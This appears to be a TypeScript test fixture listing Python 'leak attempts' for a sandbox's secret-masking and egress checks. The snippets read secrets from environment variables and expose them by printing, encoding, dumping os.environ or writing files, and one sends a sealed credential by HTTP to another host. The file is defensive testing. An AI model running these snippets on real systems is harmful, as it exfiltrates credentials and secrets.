import { DRILL_HOSTS, DRILL_SECRETS, type LeakAttempt } from './leak-attempt.js';

const MASK = `«${DRILL_SECRETS.exposed}»`;
const own = `https://${DRILL_HOSTS.bound}`;
const other = `https://${DRILL_HOSTS.other}`;

type Row = readonly [id: string, route: LeakAttempt['route'], title: string, code: string, more?: Partial<LeakAttempt>];

const rows: readonly Row[] = [
  ['print', 'output', 'Print the value from Python', 'print(key)', { shows: MASK }],
  [
    'split',
    'output',
    'Print the value from Python by single characters',
    'for c in key: print(c, end="")',
    { shows: MASK },
  ],
  [
    'encoded',
    'output',
    'Print the value from Python in base64, hex and backwards',
    'print(base64.b64encode(key.encode()).decode(), key.encode().hex(), key[::-1])',
    { shows: MASK },
  ],
  [
    'bytes',
    'output',
    'Write the value from Python to the error stream, as bytes',
    'sys.stderr.buffer.write(key.encode())',
    { shows: MASK },
  ],
  ['raise', 'error', 'Raise the value from Python', 'raise ValueError("it was " + key)', { shows: MASK }],
  ['result', 'result', 'End a Python program with the value', '{"key": key, "list": [key.encode()]}', { shows: MASK }],
  ['environ', 'output', 'Print the whole environment from Python', 'print(dict(os.environ))', { shows: MASK }],
  [
    'file',
    'file',
    'Write the value into a file from Python',
    'open("/workspace/b.bin", "wb").write(b"x" + base64.b64encode(key.encode()))',
  ],
  [
    'sign',
    'output',
    'Have things signed with the sealed value from Python, and look for it in what comes back',
    `import secrets
text = " ".join([secrets.hmac("${DRILL_SECRETS.sealed}", ""), secrets.hmac("${DRILL_SECRETS.sealed}", b"x", encoding="base64"), secrets.sign_jwt("${DRILL_SECRETS.sealed}", {"a": 1})])
digits = "0123456789abcdefghijklmnopqrstuvwxyz"
print("_".join(digits[c // 36] + digits[c % 36] for c in text.encode()), "signed")`,
    { shows: 'signed' },
  ],
  [
    'sealed-other',
    'request',
    'Send the sealed value to another host with requests',
    `requests.get("${other}/", auth=("user", sealed))`,
  ],
  [
    'sealed-use',
    'use',
    'Use the sealed value with requests: its host gets it',
    `requests.get("${own}/", auth=("user", sealed))`,
    { hosts: 'sealed-value' },
  ],
  [
    'sealed-echo',
    'answer',
    'Print an answer that echoes the sealed value, with requests',
    `print(requests.get("${own}/echo-gzip", headers={"x-key": sealed}).text)`,
    { shows: `«${DRILL_SECRETS.sealed}»` },
  ],
];

/** What careless and hostile Python does with a value. */
export const PYTHON_ATTEMPTS: readonly LeakAttempt[] = rows.map(([id, route, title, code, more]) => ({
  id: `py-${id}`,
  title,
  route,
  language: 'python',
  code: `import base64, os, sys, requests\nkey, sealed = os.environ["${DRILL_SECRETS.exposed}"], os.environ["${DRILL_SECRETS.sealed}"]\n${code}`,
  ...more,
}));
